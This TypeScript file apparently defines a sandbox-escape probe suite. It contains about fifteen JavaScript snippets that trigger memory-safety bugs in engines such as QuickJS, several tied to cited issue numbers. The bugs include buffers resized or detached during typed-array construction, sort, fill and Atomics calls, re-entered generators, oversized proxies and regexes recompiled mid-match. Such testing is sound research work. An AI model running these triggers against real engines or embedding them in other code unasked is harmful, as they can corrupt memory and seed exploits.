import { escape, type EscapeProgram } from "./program.ts";

const STALE = "A value that was never written there would be announced; a crash is contained by the sandbox.";

/** Side effects in the middle of native work, in the spirit of the reports on QuickJS; any engine may have the like. */
export const MEMORY_SAFETY: readonly EscapeProgram[] = [
  escape(
    "a typed array made while its buffer shrinks",
    `The prototype of new.target resizes the buffer. ${STALE}`,
    {
      attack: `for (const size of [16, 1024, 65536]) attempt(() => { const buffer = new ArrayBuffer(size, { maxByteLength: size * 2 }); const target = function () {}.bind(); Object.defineProperty(target, "prototype", { get() { buffer.resize(0); return Uint8Array.prototype; } }); const view = Reflect.construct(Uint8Array, [buffer], target); for (let i = 0; i < view.length; i++) if (view[i] !== 0 && view[i] !== undefined) return say("reads what it never wrote"); if (view.length > buffer.byteLength) say("a view is longer than its buffer"); });`,
    },
    "quickjs-ng 1296, 1305; bellard/quickjs 478",
  ),
  escape(
    "a typed array copied while its source shrinks",
    STALE,
    {
      attack: `attempt(() => { const buffer = new ArrayBuffer(4096, { maxByteLength: 8192 }); const source = new Uint8Array(buffer).fill(3); const target = new Proxy(function () {}, { get(t, key) { if (key === "prototype") { buffer.resize(0); return Uint8Array.prototype; } return t[key]; } }); const view = Reflect.construct(Uint8Array, [source], target); for (let i = 0; i < view.length; i++) if (view[i] !== 0 && view[i] !== 3) return say("reads what it never wrote"); });`,
    },
    "quickjs-ng 1305",
  ),
  escape(
    "a sort whose comparator shrinks the buffer",
    STALE,
    {
      attack: `for (const at of [1, 100, 1000, 2000]) attempt(() => { const buffer = new ArrayBuffer(1024, { maxByteLength: 4096 }); const view = new Uint8Array(buffer); for (let i = 0; i < view.length; i++) view[i] = i % 7; let calls = 0; view.sort((a, b) => { calls += 1; if (calls === at) buffer.resize(8); return a - b; }); for (const value of view) if (value > 6) return say("reads what it never wrote"); });`,
    },
    "quickjs-ng 1297",
  ),
  escape("a list sorted while it is emptied", STALE, {
    attack: `attempt(() => { const all = Array.from({ length: 2000 }, (_, i) => ({ i })); let calls = 0; all.sort((a, b) => { if (calls++ === 50) { all.length = 0; for (let i = 0; i < 5000; i++) all.push("other" + i); } return a.i - b.i; }); for (const each of all) if (!isThing(each) && typeof each !== "string") return say("a list holds what was never put there"); });`,
  }),
  escape(
    "a fill whose value detaches the buffer",
    STALE,
    {
      attack: `attempt(() => { const buffer = new ArrayBuffer(65536); const view = new Uint8Array(buffer); view.fill({ valueOf() { buffer.transfer?.(0); return 65; } }); if (view.length !== 0 && buffer.byteLength === 0) say("a view outlives its buffer"); const again = new Uint8Array(65536); for (const value of again) if (value !== 0) return say("new memory is not empty"); });`,
    },
    "quickjs-ng 1208",
  ),
  escape(
    "a view read after its buffer was given away",
    STALE,
    {
      attack: `attempt(() => { const buffer = new ArrayBuffer(64); const view = new Uint8Array(buffer).fill(65); const data = new DataView(buffer); buffer.transfer(); if (view[0] !== undefined || view.length !== 0) say("a view outlives its buffer"); attempt(() => { data.getUint8(0); say("a DataView outlives its buffer"); }); });`,
    },
    "quickjs-ng 1208",
  ),
  escape(
    "atomic work on a buffer that moves",
    STALE,
    {
      attack: `if (typeof Atomics === "object") for (const name of ["store", "add", "exchange", "compareExchange", "or"]) attempt(() => { const buffer = new ArrayBuffer(1024, { maxByteLength: 1048576 }); const view = new Int32Array(buffer); const evil = { valueOf() { buffer.resize(0); buffer.resize(1048576); return 0x41414141; } }; Atomics[name](view, 0, evil, evil); const other = new Int32Array(1024); for (const value of other) if (value !== 0) return say("writes to memory that it gave back"); });`,
    },
    "quickjs-ng 1301, 1302; bellard/quickjs 508",
  ),
  escape(
    "an iterator that is closed while it advances",
    STALE,
    {
      attack: `attempt(() => { let outer; const evil = { [Symbol.iterator]() { outer.return(); return [][Symbol.iterator](); } }; outer = Iterator.concat(evil, [1, 2]); outer.next(); }); attempt(() => { let outer; const inner = { next() { outer.return(); return { done: false, value: {} }; } }; outer = Iterator.from(inner).map((x) => x).filter(() => true).flatMap((x) => [x]); outer.next(); outer.next(); });`,
    },
    "quickjs-ng 1368, 1440",
  ),
  escape("a generator that is entered twice", STALE, {
    attack: `attempt(() => { let it; const make = function* () { try { it.next(); } catch {} try { it.return(1); } catch {} yield* { [Symbol.iterator]() { return { next() { attempt(() => it.throw(2)); return { done: true, value: 3 }; }, get return() { attempt(() => it.next()); return undefined; } }; } }; }; it = make(); for (let i = 0; i < 10; i++) attempt(() => it.next()); });`,
  }),
  escape(
    "a proxy with half a billion keys",
    `The size of a table overflows where it is counted in 32 bits. ${STALE}`,
    {
      attack: `for (const length of [0x20000000, 0x10000000, 0xffffffff, 2 ** 32, 2 ** 53 - 1]) attempt(() => ownKeys(new Proxy({}, { ownKeys: () => ({ length, get 0() { return "a"; }, get 1() { throw 1; } }) })));`,
    },
    "bellard/quickjs 535",
  ),
  escape("a list that shrinks under its own methods", STALE, {
    attack: `for (const method of ["slice", "splice", "concat", "lastIndexOf", "includes", "copyWithin", "with", "toSpliced", "fill", "join", "flat"]) attempt(() => { const all = Array.from({ length: 5000 }, (_, i) => ({ i })); const evil = { valueOf() { all.length = 1; for (let i = 0; i < 100; i++) new Array(5000).fill("filler"); return 10; }, toString() { return this.valueOf() + ""; } }; const result = all[method](evil, evil, evil); if (Array.isArray(result)) for (const each of result) if (each === "filler") return say("a list holds what was never put there"); });`,
  }),
  escape("a Map that changes while it is walked", STALE, {
    attack: `attempt(() => { const map = new Map(); for (let i = 0; i < 2000; i++) map.set(i, { i }); let steps = 0; for (const [key, value] of map) { if (!isThing(value)) return say("a map holds what was never put there"); map.delete(key); map.delete(key + 1); if (key % 3 === 0) { map.clear(); for (let j = 0; j < 50; j++) map.set(key + 1000 + j, { j }); } if (steps++ > 3000) break; } map.forEach((value, key) => { map.delete(key); map.set(key + 0.5, value); if (map.size > 0 && steps++ > 6000) throw 1; }); });`,
  }),
  escape(
    "a regular expression that changes while it runs",
    STALE,
    {
      attack: `attempt(() => { const expression = /(a+)(b+)/g; expression.lastIndex = { valueOf() { expression.compile("(((((((((x)))))))))|" + "y".repeat(2000), "y"); return 0; } }; const match = expression.exec("aaabbb".repeat(100)); if (match !== null) for (const group of match) if (group !== undefined && !/^[abxy]*$/.test(group)) say("a match reads beyond its text"); }); attempt(() => "abc".replace(/b/, { toString() { return "$" + "9".repeat(30); } }));`,
    },
    "bellard/quickjs 498",
  ),
  escape("weak references to what is gone", STALE, {
    attack: `if (typeof WeakRef === "function") { const refs = []; for (let i = 0; i < 5000; i++) refs.push(new WeakRef({ i })); for (let i = 0; i < 50; i++) new Array(10000).fill({}); await null; for (let i = 0; i < refs.length; i++) { const value = refs[i].deref(); if (value !== undefined && value.i !== i) return say("a weak reference leads to another object"); } } const map = new WeakMap(); for (let i = 0; i < 5000; i++) { const key = {}; map.set(key, key); map.set(map, map); }`,
  }),
  escape("text that lies about its length", STALE, {
    attack: `attempt(() => { const s = "x".repeat(2 ** 29 - 100); const t = s.slice(1, 50) + s.at(-1); if (!/^x+$/.test(t)) say("text holds what was never put there"); }); attempt(() => { const evil = { length: 2 ** 31, get 0() { return "a"; } }; String.raw({ raw: evil }, 1, 2); }); attempt(() => Array.prototype.concat.call([], { length: 2 ** 53 - 1, [Symbol.isConcatSpreadable]: true }));`,
  }),
];
